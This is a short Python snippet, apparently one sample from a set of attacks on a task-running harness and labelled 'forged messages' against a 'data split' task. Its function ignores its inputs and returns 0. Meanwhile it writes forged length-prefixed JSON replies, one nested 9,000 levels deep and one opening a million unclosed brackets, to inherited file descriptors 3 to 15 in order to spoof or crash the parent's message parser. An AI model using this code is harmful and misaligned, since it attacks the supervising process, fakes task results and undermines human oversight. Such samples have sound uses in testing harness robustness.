# class: forged messages
# against: data split
# A reply nested a million deep.
import os
def f(kind, n):
    b = b'{"q":0,"v":' + b'[' * 1000000
    b = len(b).to_bytes(4, 'little') + b
    c = b'{"q":0,"v":' + b'[' * 9000 + b']' * 9000 + b'}'
    for fd in range(3, 16):
        try:
            os.write(fd, len(c).to_bytes(4, 'little') + c)
            os.write(fd, b)
        except OSError: pass
    return 0
